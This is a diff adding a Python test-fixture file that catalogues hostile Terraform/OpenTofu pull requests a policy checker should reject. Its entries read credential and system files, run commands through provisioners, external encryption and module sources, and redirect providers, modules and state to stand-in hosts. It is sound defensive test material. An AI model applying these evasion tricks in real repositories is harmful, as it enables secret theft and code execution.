@@ -1,0 +1,679 @@
+# ruff: noqa: E501 - code of Terraform on one line each
+"""Pull requests that must be refused: each name says the trick, each change the rule that catches it.
+
+Paths that begin with `+` lie in the stack infra/envs/dev/net, others at the root of the repository.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Mapping
+from dataclasses import dataclass, field
+
+STACK = "infra/envs/dev/net"
+MODULE = "infra/modules/m"
+CALL = 'module "m" {\n  source = "../../../modules/m"\n}\n'
+
+
+@dataclass(frozen=True)
+class Change:
+    """What a pull request adds or changes; None removes a file. `trunk` is what trunk has besides."""
+
+    rule: str
+    files: Mapping[str, str | bytes | None]
+    links: Mapping[str, str] = field(default_factory=dict)
+    submodules: Mapping[str, str] = field(default_factory=dict)
+    trunk: Mapping[str, str | bytes] = field(default_factory=dict)
+
+
+def main(rule: str, text: str, **more: str) -> Change:
+    """A change of one file of the stack, and of others given as `name__tf`."""
+    files: dict[str, str | bytes | None] = {"+x.tf": text}
+    files |= {f"+{name.replace('__', '.')}": other for name, other in more.items()}
+    return Change(rule, files)
+
+
+def json(rule: str, text: str) -> Change:
+    """A change of one JSON file of the stack."""
+    return Change(rule, {"+x.tf.json": text})
+
+
+def reads(expression: str, *more: str) -> Change:
+    """A local that reads a file."""
+    return main("file-path", f"locals {{\n  a = {expression}\n}}\n" + "".join(f"{line}\n" for line in more))
+
+
+def required(value: str, name: str = "p") -> str:
+    return f"terraform {{\n  required_providers {{\n    {name} = {value}\n  }}\n}}\n"
+
+
+def state(config: str, backend: str = '"gcs"') -> str:
+    return f'data "terraform_remote_state" "x" {{\n  backend = {backend}\n  config  = {config}\n}}\n'
+
+
+def provider(name: str, body: str) -> Change:
+    """A provider block."""
+    return main("provider-argument", f'provider "{name}" {{\n  {body}\n}}\n')
+
+
+KUBERNETES = required('{ source = "hashicorp/kubernetes" }', "k8s")
+TFVARS = 'variable "p" {\n  default = "main.tf"\n}\nlocals {\n  a = file(var.p)\n}\n'
+DEEP = "(" * 100_000 + "1" + ")" * 100_000
+POINTER = "version https://git-lfs.github.com/spec/v1\noid sha256:0\nsize 1\n"
+RELEASE = 'resource "helm_release" "x" {{\n  name = "x"\n  {}\n}}\n'
+
+HOSTILE: dict[str, Change] = {
+    # Overrides
+    "override local that cannot be told": main(
+        "file-path",
+        'locals {\n  p = "main.tf"\n}\noutput "x" {\n  value = filebase64(local.p)\n}\n',
+        x_override__tf='locals {\n  p = join("/", ["", "proc", "self", "environ"])\n}\n',
+    ),
+    "override local that is absolute": main(
+        "file-path",
+        'locals {\n  p = "main.tf"\n}\noutput "x" {\n  value = file(local.p)\n}\n',
+        override__tf='locals {\n  p = "/etc/passwd"\n}\n',
+    ),
+    "override default that cannot be told": main(
+        "file-path",
+        'variable "p" {\n  default = "main.tf"\n}\noutput "x" {\n  value = filebase64(var.p)\n}\n',
+        x_override__tf='variable "p" {\n  default = true ? "/proc/self/environ" : ""\n}\n',
+    ),
+    "override default in JSON": main(
+        "file-path",
+        'variable "p" {\n  default = "main.tf"\n}\noutput "x" {\n  value = file(var.p)\n}\n',
+        x_override__tf__json='{"variable": {"p": {"default": "/etc/passwd"}}}',
+    ),
+    "override for_each of a file": main(
+        "file-path",
+        'resource "google_x" "x" {\n  for_each = fileset(path.module, "*.tf")\n'
+        '  a = file("${path.module}/${each.value}")\n}\n',
+        x_override__tf='resource "google_x" "x" {\n  for_each = toset(["../../../../../etc/passwd"])\n}\n',
+    ),
+    "override adds a provisioner": main(
+        "provisioner",
+        'resource "google_x" "x" {\n}\n',
+        x_override__tf='resource "google_x" "x" {\n  provisioner "local-exec" {\n    command = "id"\n  }\n}\n',
+    ),
+    "override changes a module's source": Change(
+        "module-source",
+        {"+x.tf": CALL, "+x_override.tf": 'module "m" {\n  source = "git::https://example.com/m"\n}\n'}
+        | {f"{MODULE}/main.tf": ""},
+    ),
+    "override changes a provider's source": main(
+        "provider",
+        required('{ source = "hashicorp/google" }', "google"),
+        x_override__tf=required('{ source = "evil/google" }', "google"),
+    ),
+    "override changes the backend": main(
+        "backend",
+        "# x\n",
+        x_override__tf='terraform {\n  backend "http" {\n    address = "http://x"\n  }\n}\n',
+    ),
+    "override changes the backend's bucket": main(
+        "backend", "# x\n", override__tf__json='{"terraform": {"backend": {"gcs": {"bucket": "evil"}}}}'
+    ),
+    "override changes a remote state's config": main(
+        "remote-state",
+        state('{ bucket = "acme-dev" }'),
+        override__tf='data "terraform_remote_state" "x" {\n  config = { bucket = "evil" }\n}\n',
+    ),
+    "override changes a remote state's backend": main(
+        "remote-state",
+        state('{ bucket = "acme-dev" }'),
+        override__tf='data "terraform_remote_state" "x" {\n  backend = "http"\n}\n',
+    ),
+    # OpenTofu
+    "tofu file vouches for a provider": Change(
+        "provider",
+        {
+            "+v.tofu": required('{ source = "hashicorp/google" }', "local"),
+            "+x.tf": 'data "local_file" "x" {\n  filename = "/proc/self/environ"\n}\n',
+        },
+    ),
+    "tofu file hides a file": Change(
+        "data-source", {"+x.tf": "# x\n", "+x.tofu": 'data "http" "x" {\n  url = "http://x"\n}\n'}
+    ),
+    "tofu file hides the good local": Change(
+        "file-path",
+        {
+            "+x.tf": 'locals {\n  p = "main.tf"\n}\n',
+            "+x.tofu": 'locals {\n  p = "/etc/passwd"\n}\n',
+            "+y.tf": "locals {\n  a = file(local.p)\n}\n",
+        },
+    ),
+    "tofu file in JSON": Change("data-source", {"+x.tofu.json": '{"data": {"external": {"x": {}}}}'}),
+    "tofu override": Change(
+        "file-path",
+        {
+            "+x.tf": 'locals {\n  p = "main.tf"\n  a = file(local.p)\n}\n',
+            "+x_override.tofu": 'locals {\n  p = "/etc/passwd"\n}\n',
+        },
+    ),
+    "tofu module only": Change(
+        "data-source", {"+x.tf": CALL, f"{MODULE}/main.tf": "", f"{MODULE}/e.tofu": 'data "http" "x" {}\n'}
+    ),
+    "encryption with an external key provider": main(
+        "encryption",
+        'terraform {\n  encryption {\n    key_provider "external" "x" {\n      command = ["id"]\n    }\n  }\n}\n',
+    ),
+    "encryption with an external method": main(
+        "encryption",
+        'terraform {\n  encryption {\n    method "external" "x" {\n      encrypt_command = ["id"]\n    }\n  }\n}\n',
+    ),
+    "encryption in JSON": json(
+        "encryption",
+        '{"terraform": {"encryption": {"key_provider": {"external": {"x": {"command": ["id"]}}}}}}',
+    ),
+    "encryption with keys of AWS": main(
+        "encryption",
+        'terraform {\n  encryption {\n    key_provider "aws_kms" "x" {\n'
+        '      shared_config_files = ["x"]\n    }\n  }\n}\n',
+    ),
+    "encryption with an access token": main(
+        "encryption",
+        'terraform {\n  encryption {\n    key_provider "gcp_kms" "x" {\n'
+        '      impersonate_service_account = "x"\n    }\n  }\n}\n',
+    ),
+    "encryption in a tofu file": Change(
+        "encryption",
+        {"+x.tofu": 'terraform {\n  encryption {\n    key_provider "external" "x" {\n    }\n  }\n}\n'},
+    ),
+    # JSON
+    "module source is literal in JSON": Change(
+        "data-source",
+        {
+            "+x.tf.json": '{"module": {"x": {"source": "../../../modules/$${x}"}}}',
+            "infra/modules/${x}/m.tf": 'output "x" {\n  value = 1\n}\n',
+            "infra/modules/$${x}/m.tf": 'data "external" "x" {\n  program = ["id"]\n}\n',
+        },
+    ),
+    "lone surrogate": json("unreadable", '{"locals":{"x":"${file(\\"\\ud800\\")}"}}'),
+    "lone surrogate in a name": json("provider", '{"resource":{"\\ud800":{"x":{}}}}'),
+    "key that stands twice": json(
+        "unreadable", '{"data":{"http":{"x":{}}},"data":{"google_project":{"x":{}}}}'
+    ),
+    "key that stands twice deep inside": json(
+        "unreadable",
+        '{"data":{"terraform_remote_state":{"x":{"backend":"gcs","config":{"bucket":"evil","bucket":"acme-a"}}}}}',
+    ),
+    "function in a key": json("file-path", '{"locals":{"a":{"${file(\\"/etc/passwd\\")}":1}}}'),
+    "function in an escaped string": json("file-path", '{"locals":{"a":"${fi\\u006ce(\\"/etc/passwd\\")}"}}'),
+    "blocks in arrays of arrays": json("data-source", '{"data":[[{"http":[{"x":[{}]}]}]]}'),
+    "file that is an array": json("data-source", '[{"data":{"http":{"x":{}}}}]'),
+    "strip marker": json("file-path", '{"locals":{"a":"${~file(\\"/etc/passwd\\")~}"}}'),
+    "directive": json("file-path", '{"locals":{"a":"%{if true}${file(\\"/etc/passwd\\")}%{endif}"}}'),
+    "provider argument": json(
+        "provider-argument", '{"provider":{"google":{"impersonate_service_account":"x"}}}'
+    ),
+    "provisioner": json(
+        "provisioner",
+        '{"resource":{"google_x":{"x":{"provisioner":{"local-exec":{"command":"id"}}}}}}',
+    ),
+    "byte order mark": Change("data-source", {"+x.tf.json": '\ufeff{"data":{"http":{"x":{}}}}'}),
+    "comment beside a secret": json("data-source", '{"//":"x","data":{"//":"y","http":{"x":{"//":"z"}}}}'),
+    "deep JSON": json("unreadable", '{"locals":{"a":' + "[" * 100_000 + "]" * 100_000 + "}}"),
+    # HCL
+    "deep parentheses": main("unreadable", f"locals {{\n  a = {DEEP}\n}}\n"),
+    "deep blocks": main("unreadable", "a {\n" * 5_000 + "}\n" * 5_000),
+    "deep lists": main("unreadable", f"locals {{\n  a = {'[' * 50_000}{']' * 50_000}\n}}\n"),
+    "deep interpolation": main(
+        "unreadable", "locals {\n  a = " + '"${' * 3_000 + "1" + '}"' * 3_000 + "\n}\n"
+    ),
+    "five megabytes": main("unreadable", "# x\n" * 1_400_000),
+    "five megabytes of JSON": json("unreadable", '{"locals":{"a":"' + "x" * 5_500_000 + '"}}'),
+    "five megabytes of variables": Change(
+        "unreadable", {"+x.tf": TFVARS, "+x.auto.tfvars": 'q = "' + "x" * 5_500_000 + '"\n'}
+    ),
+    "escapes in labels": main("data-source", 'data "\\u0068ttp" "x" {\n}\n'),
+    "label without quotes": main("data-source", "data external x {\n}\n"),
+    "semicolon-free one-liner": main("data-source", 'data "http" "x" { url = "http://x" }\n'),
+    "heredoc that ends late": main(
+        "unreadable",
+        'locals {\n  a = <<EOT\nx\n EOT\u00a0\n}\ndata "http" "x" {}\nlocals {\n  b = <<EOT\nEOT\n}\n',
+    ),
+    "heredoc with a function": main("file-path", 'locals {\n  a = <<EOT\n${file("/etc/passwd")}\nEOT\n}\n'),
+    "indented heredoc with a strip marker": main(
+        "file-path", 'locals {\n  a = <<-EOT\n    ${~ file("/etc/passwd") ~}\n  EOT\n}\n'
+    ),
+    "directive in a heredoc": main(
+        "file-path", 'locals {\n  a = <<EOT\n%{ for x in [file("/etc/passwd")] }${x}%{ endfor }\nEOT\n}\n'
+    ),
+    "template within a template": main("file-path", 'locals {\n  a = "${"${file("/etc/passwd")}"}"\n}\n'),
+    "three dollars": main("unreadable", 'locals {\n  a = "$$${file("/etc/passwd")}"\n}\n'),
+    "carriage return hides a line": main("unreadable", '# x\rdata "http" "x" {}\n'),
+    "control character": main("unreadable", 'locals {\n  a = "\x1b[2K"\n}\n'),
+    "text that is no UTF-8": Change("unreadable", {"+x.tf": b"# \xff\xfe\n"}),
+    "comment between name and call": main("file-path", 'locals {\n  a = file/* x */("/etc/passwd")\n}\n'),
+    "name in another script": main("provider", 'resource "аws_x" "x" {\n}\n'),
+    "name of a file in another script": Change("data-source", {"+мейн.tf": 'data "http" "x" {\n}\n'}),
+    "name of a file with a space": Change("data-source", {"+ x.tf": 'data "http" "x" {\n}\n'}),
+    # Files
+    "absolute path": reads('file("/proc/self/environ")'),
+    "base64": reads('filebase64("/proc/self/environ")'),
+    "hashes": reads('filesha512("/proc/self/environ")'),
+    "md5": reads('filemd5("/etc/passwd")'),
+    "base64 hash": reads('filebase64sha512("/etc/passwd")'),
+    "existence": reads('fileexists("/etc/passwd")'),
+    "set": reads('fileset("/etc", "*")'),
+    "template": reads('templatefile("/proc/self/environ", {})'),
+    "text as a template": reads("templatestring(local.b, {})", 'locals {\n  b = "x"\n}'),
+    "function with a namespace": reads('core::file("/etc/passwd")'),
+    "expanded arguments": reads('file(["/etc/passwd"]...)'),
+    "path in a conditional": reads('file(true ? "/etc/passwd" : "main.tf")'),
+    "path in a list": reads('file(["/etc/passwd"][0])'),
+    "path from a function": reads('file(abspath("/etc/passwd"))'),
+    "path with a home": reads('file(pathexpand("~/.netrc"))'),
+    "path by format": reads('file(format("%s/etc/passwd", ""))'),
+    "path up and up": reads('file("${path.module}/../../../../../../etc/passwd")'),
+    "path by the working directory": reads('file("${path.cwd}/../../../../../etc/passwd")'),
+    "path by a local of a local": reads("file(local.b)", 'locals {\n  b = local.c\n  c = "/etc/passwd"\n}'),
+    "path by try": reads('try(file("/etc/passwd"), "")'),
+    "path in can": reads('can(file("/etc/passwd"))'),
+    "path in a for": reads('[for p in ["/etc/passwd"] : file(p)]'),
+    "path in for over what was found elsewhere": reads(
+        '[for p in fileset("/etc", "*") : file("${path.module}/${p}")]'
+    ),
+    "set that goes up": reads('[for p in fileset(path.module, "../../../../../etc/*") : file(p)]'),
+    "whole repository": reads('[for f in fileset("../../../..", "*") : file("../../../../${f}")]'),
+    "credentials of git": reads('file("../../../../.git/config")'),
+    "credentials of git in capitals": reads('file("../../../../.GIT/config")'),
+    "own data of Terraform": reads('file(".terraform/terraform.tfstate")'),
+    "path with a null byte": main("file-path", 'locals {\n  a = file("/etc/passwd\\u0000")\n}\n'),
+    "variable from tfvars": Change(
+        "file-path", {"+x.tf": TFVARS, "+terraform.tfvars": 'p = "/etc/passwd"\n'}
+    ),
+    "variable from a dotted tfvars": Change(
+        "file-path", {"+x.tf": TFVARS, "+.z.auto.tfvars": 'p = "/etc/passwd"\n'}
+    ),
+    "variable from tfvars in JSON": Change(
+        "file-path", {"+x.tf": TFVARS, "+z.auto.tfvars.json": '{"p": "/etc/passwd"}'}
+    ),
+    "variable from the last tfvars": Change(
+        "file-path",
+        {"+x.tf": TFVARS, "+a.auto.tfvars": 'p = "main.tf"\n', "+b.auto.tfvars": 'p = "/etc/passwd"\n'},
+    ),
+    "variable that is null": Change(
+        "file-path",
+        {"+x.tf": TFVARS.replace('"main.tf"', '"/etc/passwd"'), "+x.auto.tfvars": "p = null\n"}
+        | {"+y.tf": "# x\n"},
+    ),
+    "variable without a value": main("file-path", 'variable "p" {}\nlocals {\n  a = file(var.p)\n}\n'),
+    "default in a function": main(
+        "file-path",
+        'variable "p" {\n  default = "main.tf"\n}\nvariable "q" {\n  type = object({ a = optional(string, "/etc") })\n}\n'
+        "locals {\n  a = file(var.q.a)\n}\n",
+    ),
+    "argument of a module": Change(
+        "file-path",
+        {
+            "+x.tf": CALL.replace("}", '  p = "/etc/passwd"\n}'),
+            f"{MODULE}/main.tf": 'variable "p" {}\noutput "x" {\n  value = file(var.p)\n}\n',
+        },
+    ),
+    "argument of a module's module": Change(
+        "file-path",
+        {
+            "+x.tf": CALL.replace("}", "  p = local.q\n}") + 'locals {\n  q = "/etc/passwd"\n}\n',
+            f"{MODULE}/main.tf": 'variable "p" {}\nmodule "n" {\n  source = "./n"\n  p = var.p\n}\n',
+            f"{MODULE}/n/main.tf": 'variable "p" {}\noutput "x" {\n  value = file(var.p)\n}\n',
+        },
+    ),
+    "output of a module": Change(
+        "file-path",
+        {
+            "+x.tf": CALL + "locals {\n  a = file(module.m.p)\n}\n",
+            f"{MODULE}/main.tf": 'output "p" {\n  value = "/etc/passwd"\n}\n',
+        },
+    ),
+    "template that reads": Change(
+        "file-path",
+        {
+            "+x.tf": 'locals {\n  a = templatefile("${path.module}/t.tpl", {})\n}\n',
+            "+t.tpl": '${file("/etc/passwd")}\n',
+        },
+    ),
+    "template behind a link": Change(
+        "file-path",
+        {
+            "+x.tf": 'locals {\n  a = templatefile("${path.module}/t.tpl", {})\n}\n',
+            "docs/t": '${file("/x")}\n',
+        },
+        links={f"{STACK}/t.tpl": "../../../../docs/t"},
+    ),
+    "function in a variable's validation": main(
+        "file-path",
+        'variable "p" {\n  validation {\n    condition     = file("/etc/passwd") == ""\n'
+        '    error_message = file("/etc/passwd")\n  }\n}\n',
+    ),
+    "function in a precondition": main(
+        "file-path",
+        'output "x" {\n  value = 1\n  precondition {\n    condition     = fileexists("/etc/x")\n'
+        '    error_message = "x"\n  }\n}\n',
+    ),
+    "function in an import": main(
+        "file-path",
+        'import {\n  to = google_x.x\n  id = file("/etc/passwd")\n}\nresource "google_x" "x" {}\n',
+    ),
+    "function in a dynamic block": main(
+        "file-path",
+        'resource "google_x" "x" {\n  dynamic "b" {\n    for_each = [file("/etc/passwd")]\n'
+        "    content {\n      v = b.value\n    }\n  }\n}\n",
+    ),
+    "function in a provider": main("file-path", 'provider "google" {\n  region = file("/etc/passwd")\n}\n'),
+    "function in a check": main(
+        "file-path",
+        'check "c" {\n  assert {\n    condition     = file("/etc/passwd") == ""\n    error_message = "x"\n  }\n}\n',
+    ),
+    # Providers
+    "provider of somebody": main("provider", required('{ source = "evil/p" }')),
+    "provider of another registry": main("provider", required('{ source = "example.com/hashicorp/google" }')),
+    "provider with a port": main("provider", required('{ source = "localhost:8080/hashicorp/google" }')),
+    "provider whose source cannot be told": main("provider", required('{ source = join("/", ["a", "b"]) }')),
+    "provider by merge": main("provider", required('merge({}, { source = "evil/p" })')),
+    "provider by a name alone": main("provider", 'resource "evil_thing" "x" {\n}\n'),
+    "provider by its block": main("provider", 'provider "evil" {\n}\n'),
+    "provider by a meta argument": main("provider", 'resource "google_x" "x" {\n  provider = evil.eu\n}\n'),
+    "provider by an ephemeral resource": main("provider", 'ephemeral "evil_x" "x" {\n}\n'),
+    "provider by an action": main("provider", 'action "evil_x" "x" {\n}\n'),
+    "provider by an import": main("provider", 'import {\n  to = evil_thing.x\n  id = "1"\n}\n'),
+    "provider by an import's argument": main(
+        "provider",
+        'import {\n  provider = evil\n  to = google_x.x\n  id = "1"\n}\nresource "google_x" "x" {}\n',
+    ),
+    "provider in a module": Change(
+        "provider", {"+x.tf": CALL, f"{MODULE}/versions.tf": required('{ source = "evil/p" }')}
+    ),
+    "provider in a module's module behind a link": Change(
+        "provider",
+        {
+            "+x.tf": CALL,
+            f"{MODULE}/main.tf": 'module "n" {\n  source = "./n"\n}\n',
+            "lib/n/main.tf": 'resource "evil_x" "x" {}\n',
+        },
+        links={f"{MODULE}/n": "../../../lib/n"},
+    ),
+    "provider for a test": Change("provider", {"+x.tf": "", "+x.tftest.hcl": 'provider "evil" {\n}\n'}),
+    "module for a test": Change(
+        "module-source",
+        {
+            "+x.tf": "",
+            "+tests/x.tftest.hcl": 'run "x" {\n  module {\n    source = "git::https://example.com/x"\n  }\n}\n',
+        },
+    ),
+    "provider_meta": main(
+        "provider-meta", 'terraform {\n  provider_meta "google" {\n    module_name = "x"\n  }\n}\n'
+    ),
+    # What a listed provider can do
+    "exec of kubernetes": provider("kubernetes", 'exec {\n    command = "id"\n  }'),
+    "exec of kubernetes under another name": main(
+        "provider-argument", KUBERNETES + 'provider "k8s" {\n  exec {\n    command = "id"\n  }\n}\n'
+    ),
+    "exec of kubernetes in an alias": provider(
+        "kubernetes", 'alias = "b"\n  exec {\n    command = "id"\n  }'
+    ),
+    "exec of kubernetes in a dynamic block": provider(
+        "kubernetes", 'dynamic "exec" {\n    for_each = [1]\n    content {\n      command = "id"\n    }\n  }'
+    ),
+    "exec of kubernetes in JSON": json(
+        "provider-argument", '{"provider":{"kubernetes":[{"exec":[{"command":"id"}]}]}}'
+    ),
+    "exec of helm": provider("helm", 'kubernetes {\n    exec {\n      command = "id"\n    }\n  }'),
+    "exec of helm as an argument": provider(
+        "helm", 'kubernetes = {\n    exec = {\n      command = "id"\n    }\n  }'
+    ),
+    "exec of helm in nested dynamic blocks": provider(
+        "helm",
+        'dynamic "kubernetes" {\n    for_each = [1]\n    content {\n      dynamic "exec" {\n        for_each = [1]\n'
+        '        content {\n          command = "id"\n        }\n      }\n    }\n  }',
+    ),
+    "exec of helm that cannot be told": provider("helm", "kubernetes = local.k"),
+    "exec of helm by merge": provider("helm", 'kubernetes = merge({}, { exec = { command = "id" } })'),
+    "exec of helm in a conditional": provider("helm", "kubernetes = true ? { exec = {} } : {}"),
+    "exec of kubectl": main(
+        "provider-argument",
+        required('{ source = "gavinbunney/kubectl" }', "kubectl")
+        + 'provider "kubectl" {\n  exec {\n    command = "id"\n  }\n}\n',
+    ),
+    "exec of a provider that nobody looked at": main(
+        "provider-argument",
+        required('{ source = "hashicorp/other" }', "other") + 'provider "other" {\n  exec {\n  }\n}\n',
+    ),
+    "kubeconfig": provider("kubernetes", 'config_path = "./kubeconfig"'),
+    "kubeconfigs": provider("kubernetes", 'config_paths = ["./kubeconfig"]'),
+    "kubeconfig of helm": provider("helm", 'kubernetes = {\n    config_path = "kubeconfig"\n  }'),
+    "plugins of helm": provider("helm", 'plugins_path = "./plugins"'),
+    "postrender": main(
+        "provider-argument", RELEASE.format('chart = "./c"\n  postrender {\n    binary_path = "./x"\n  }')
+    ),
+    "postrender as an argument": main(
+        "provider-argument", RELEASE.format('chart = "./c"\n  postrender = { binary_path = "./x" }')
+    ),
+    "postrender of a template": main(
+        "provider-argument",
+        'data "helm_template" "x" {\n  chart = "./c"\n  postrender = {\n    binary_path = "./x"\n  }\n}\n',
+    ),
+    "postrender in an override": main(
+        "provider-argument",
+        RELEASE.format('chart = "./c"'),
+        x_override__tf=RELEASE.format('postrender {\n    binary_path = "./x"\n  }'),
+    ),
+    "chart from a repository": main(
+        "module-source", RELEASE.format('repository = "https://charts.example.com"\n  chart = "x"')
+    ),
+    "chart from a registry": main("module-source", RELEASE.format('chart = "oci://example.com/x"')),
+    "chart from somewhere": main("module-source", RELEASE.format("chart = var.c")),
+    "chart from a repository by a variable": main(
+        "module-source",
+        'variable "r" {\n  default = "https://charts.example.com"\n}\n'
+        + RELEASE.format('repository = var.r\n  chart = "x"'),
+    ),
+    "chart out of the repository": main("file-path", RELEASE.format('chart = "/opt/chart"')),
+    "chart in JSON": json(
+        "module-source", '{"resource":{"helm_release":{"x":{"chart":"oci://example.com/x"}}}}'
+    ),
+    "docker by ssh": main(
+        "provider-argument",
+        required('{ source = "kreuzwerker/docker" }', "docker")
+        + 'provider "docker" {\n  host = "ssh://user@example.com"\n}\n',
+    ),
+    "docker by ssh in capitals": main(
+        "provider-argument",
+        required('{ source = "kreuzwerker/docker" }', "docker")
+        + 'provider "docker" {\n  host = " SSH://user@example.com"\n}\n',
+    ),
+    "docker by what cannot be told": main(
+        "provider-argument",
+        required('{ source = "kreuzwerker/docker" }', "docker") + 'provider "docker" {\n  host = var.h\n}\n',
+    ),
+    "docker with options of ssh": main(
+        "provider-argument",
+        required('{ source = "kreuzwerker/docker" }', "docker")
+        + 'provider "docker" {\n  ssh_opts = ["-o", "ProxyCommand=id"]\n}\n',
+    ),
+    "docker with a credential helper": main(
+        "provider-argument",
+        required('{ source = "kreuzwerker/docker" }', "docker")
+        + 'provider "docker" {\n  registry_auth {\n    address = "x"\n    config_file = "x.json"\n  }\n}\n',
+    ),
+    "credential_process": provider("aws", 'shared_config_files = ["./aws"]'),
+    "profile": provider("aws", 'profile = "x"'),
+    "credential_process of any provider": provider("other", 'credential_process = "id"'),
+    "endpoints of AWS": provider("aws", 'endpoints {\n    s3 = "http://example.com"\n  }'),
+    "local_file": main("file-path", 'data "local_file" "x" {\n  filename = "/proc/self/environ"\n}\n'),
+    "local_sensitive_file": main(
+        "file-path", 'data "local_sensitive_file" "x" {\n  filename = "/etc/passwd"\n}\n'
+    ),
+    "local_file by a variable": main("file-path", 'data "local_file" "x" {\n  filename = var.p\n}\n'),
+    "local_file in a check": main(
+        "file-path", 'check "c" {\n  data "local_file" "x" {\n    filename = "/etc/passwd"\n  }\n}\n'
+    ),
+    "ephemeral local_file": main(
+        "file-path", 'ephemeral "local_file" "x" {\n  filename = "/etc/passwd"\n}\n'
+    ),
+    "local_command": main("data-source", 'data "local_command" "x" {\n  command = "id"\n}\n'),
+    "local_command as an action": main("data-source", 'action "local_command" "x" {\n  config {}\n}\n'),
+    "local_file that writes elsewhere": main(
+        "file-path", 'resource "local_file" "x" {\n  filename = "/root/.terraformrc"\n  content = ""\n}\n'
+    ),
+    "archive of a folder elsewhere": main(
+        "file-path",
+        'data "archive_file" "x" {\n  type = "zip"\n  source_dir = "/root"\n  output_path = "x.zip"\n}\n',
+    ),
+    "archive of the whole repository": main(
+        "file-path",
+        'data "archive_file" "x" {\n  type = "zip"\n  source_dir = "../../../.."\n  output_path = "x.zip"\n}\n',
+    ),
+    "archive that is written elsewhere": main(
+        "file-path",
+        'data "archive_file" "x" {\n  type = "zip"\n  source_file = "main.tf"\n'
+        '  output_path = "/usr/local/bin/x"\n}\n',
+    ),
+    "bucket object from a file of the machine": main(
+        "file-path",
+        'resource "google_storage_bucket_object" "x" {\n  bucket = "b"\n  name = "n"\n'
+        '  source = "/proc/self/environ"\n}\n',
+    ),
+    "state as an object": main(
+        "remote-state",
+        'data "google_storage_bucket_object_content" "x" {\n  bucket = "acme-dev"\n'
+        '  name = "dev/state/net/default.tfstate"\n}\n',
+    ),
+    "object of some bucket": main(
+        "remote-state",
+        'data "google_storage_bucket_object_content" "x" {\n  bucket = join("", ["acme", "-dev"])\n  name = "n"\n}\n',
+    ),
+    "request by TLS": main(
+        "provider-argument", 'data "tls_certificate" "x" {\n  url = "https://x.example.com"\n}\n'
+    ),
+    "query by DNS": main("data-source", 'data "dns_a_record_set" "x" {\n  host = "x.example.com"\n}\n'),
+    "token of the account": main("data-source", 'data "google_client_config" "x" {\n}\n'),
+    "token as an ephemeral resource": main(
+        "data-source", 'ephemeral "google_service_account_access_token" "x" {\n}\n'
+    ),
+    "endpoint": provider("google", 'storage_custom_endpoint = "http://example.com"'),
+    "credentials": provider("google", 'credentials = "{}"'),
+    "credentials that run a program": provider("google-beta", "external_credentials {\n  }"),
+    "endpoint in an override": main(
+        "provider-argument",
+        'provider "google" {\n}\n',
+        x_override__tf='provider "google" {\n  universe_domain = "example.com"\n}\n',
+    ),
+    "provisioner in removed": main(
+        "provisioner",
+        'removed {\n  from = google_x.x\n  provisioner "local-exec" {\n    command = "id"\n  }\n}\n',
+    ),
+    "connection": main(
+        "provisioner", 'resource "terraform_data" "x" {\n  connection {\n    host = "x"\n  }\n}\n'
+    ),
+    # Modules
+    "module from git": main("module-source", 'module "m" {\n  source = "git::https://example.com/m"\n}\n'),
+    "module from a registry": main("module-source", 'module "m" {\n  source = "evil/m/google"\n}\n'),
+    "module from a bucket": main("module-source", 'module "m" {\n  source = "gcs::https://x/y"\n}\n'),
+    "module by ext": main("module-source", 'module "m" {\n  source = "git::ext::sh -c id"\n}\n'),
+    "module by an absolute path": main("module-source", 'module "m" {\n  source = "/tmp/m"\n}\n'),
+    "module outside": main("module-source", 'module "m" {\n  source = "../../../../../m"\n}\n'),
+    "module by a local": main(
+        "module-source", 'locals {\n  s = "git::x"\n}\nmodule "m" {\n  source = local.s\n}\n'
+    ),
+    "module with another separator": main("module-source", 'module "m" {\n  source = ".\\\\m"\n}\n'),
+    "module in a submodule": Change("module-source", {"+x.tf": CALL}, submodules={MODULE: "1" * 40}),
+    "module behind a link outside": Change("module-source", {"+x.tf": CALL}, links={MODULE: "/etc"}),
+    # Backends and states
+    "backend http": main("backend", "# x\n", versions__tf='terraform {\n  backend "http" {\n  }\n}\n'),
+    "cloud": main("backend", "# x\n", versions__tf="terraform {\n  cloud {\n  }\n}\n"),
+    "cloud in JSON": Change("backend", {"+versions.tf.json": '{"terraform":{"cloud":{"organization":"x"}}}'}),
+    "no backend": Change("backend", {"+versions.tf": None, "+x.tf": "# x\n"}),
+    "bucket": main(
+        "backend", "# x\n", versions__tf='terraform {\n  backend "gcs" {\n    bucket = "evil"\n  }\n}\n'
+    ),
+    "endpoint of the backend": main(
+        "provider-argument",
+        "# x\n",
+        versions__tf='terraform {\n  backend "gcs" {\n    storage_custom_endpoint = "http://x"\n  }\n}\n',
+    ),
+    "account of the backend": main(
+        "provider-argument",
+        "# x\n",
+        versions__tf='terraform {\n  backend "gcs" {\n    impersonate_service_account = "x"\n  }\n}\n',
+    ),
+    "local state elsewhere": main(
+        "file-path", "# x\n", versions__tf='terraform {\n  backend "local" {\n    path = "/x"\n  }\n}\n'
+    ),
+    "remote state of another bucket": main("remote-state", state('{ bucket = "evil" }')),
+    "remote state by merge": main(
+        "remote-state", state('merge({ bucket = "acme-dev" }, { bucket = "evil" })')
+    ),
+    "remote state by a key": main("remote-state", state('{ (local.k) = "evil" }')),
+    "remote state of another kind": main("remote-state", state('{ address = "http://x" }', '"http"')),
+    "remote state of no kind": main("remote-state", state("{}", "local.b")),
+    "remote state by each": main(
+        "remote-state",
+        'data "terraform_remote_state" "x" {\n  for_each = toset(["evil"])\n  backend = "gcs"\n'
+        "  config = { bucket = each.value }\n}\n",
+    ),
+    "remote state of the machine": main("remote-state", state('{ path = "/x" }', '"local"')),
+    "remote state in a check": main("remote-state", 'check "c" {\n' + state('{ bucket = "evil" }') + "}\n"),
+    "remote state in a module": Change(
+        "remote-state", {"+x.tf": CALL, f"{MODULE}/main.tf": state('{ bucket = "evil" }')}
+    ),
+    "remote state by an argument": Change(
+        "remote-state",
+        {
+            "+x.tf": CALL.replace("}", '  b = "evil"\n}'),
+            f"{MODULE}/main.tf": 'variable "b" {}\n' + state("{ bucket = var.b }"),
+        },
+    ),
+    "states elsewhere by infra.yaml": Change(
+        "backend", {"infra.yaml": "backend: {gcs: {bucket: evil}}\nenvironments: {dev: {}, prod: {}}\n"}
+    ),
+    # Beside the code
+    "terraform.d": Change("cli-config", {"+terraform.d/plugins/x": "#!/bin/sh\n"}),
+    "terraform.d behind a link": Change(
+        "cli-config", {"shared/x": ""}, links={f"{STACK}/terraform.d": "../../../../shared"}
+    ),
+    "terraform.d in a submodule": Change(
+        "cli-config", {"+x.tf": ""}, submodules={f"{STACK}/terraform.d": "1" * 40}
+    ),
